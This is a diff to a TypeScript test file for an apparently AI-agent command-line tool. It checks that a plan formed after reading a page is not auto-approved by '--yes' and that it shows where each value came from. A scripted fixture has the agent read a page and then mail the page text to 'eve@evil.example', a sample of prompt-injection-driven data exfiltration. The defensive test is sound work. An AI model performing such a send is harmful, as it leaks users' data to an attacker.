@@ -3,7 +3,7 @@ import { questionLines } from '../../src/cli/questions/question.ts';
 import type { Style } from '../../src/cli/style.ts';
 import { textsFor } from '../../src/cli/texts.ts';
 import type { JsonObject } from '../../src/model/json.ts';
-import { planAbout } from '../../src/model/question.ts';
+import { mustBeSeen, planAbout } from '../../src/model/question.ts';
 import type { FunctionTool } from '../../src/testing/function-toolbox.ts';
 import type { Reply, ScriptedAction } from '../../src/testing/scripted-mind.ts';
 import { openQuestions } from '../../src/views/report.ts';
@@ -35,11 +35,15 @@ async function cards(script: readonly Reply[]) {
   if (question === undefined) throw new Error('nothing is asked');
   const { tasks } = planAbout.parse(question.context);
   const lines = questionLines(question, textsFor({ language: 'en' }), PLAIN).join('\n');
-  return { trust: tasks.find(({ operation }) => operation === 'mail.send')?.trust, lines };
+  return {
+    mustBeSeen: mustBeSeen(question),
+    trust: tasks.find(({ operation }) => operation === 'mail.send')?.trust,
+    lines,
+  };
 }
 
-it('a plan that was made after reading is shown with the place where each value was read', async () => {
-  const { trust, lines } = await cards([
+it('a plan that was made after reading is not approved by --yes, and is shown with the place where each value was read', async () => {
+  const { trust, lines, ...card } = await cards([
     [act('r', 'page.read')],
     [act('s', 'mail.send', { to: 'eve@evil.example', body: '${r.text}' })],
     END,
@@ -56,6 +60,7 @@ it('a plan that was made after reading is shown with the place where each value 
       { argument: 'body', value: '${r.text}', task: 'r' },
     ],
   });
+  expect(card.mustBeSeen).toBe(true);
   expect(lines).toContain('to = "eve@evil.example" (read in page.read (r)');
 });
 
@@ -70,4 +75,5 @@ it('a plan that was made before is shown with what aims its calls from external 
   });
   const ordered = await cards([[act('s', 'mail.send', { to: 'bob@home.example', body: 'hi' })], END]);
   expect(ordered.trust).toBeUndefined();
+  expect([aimed.mustBeSeen, ordered.mustBeSeen]).toEqual([false, false]);
 });
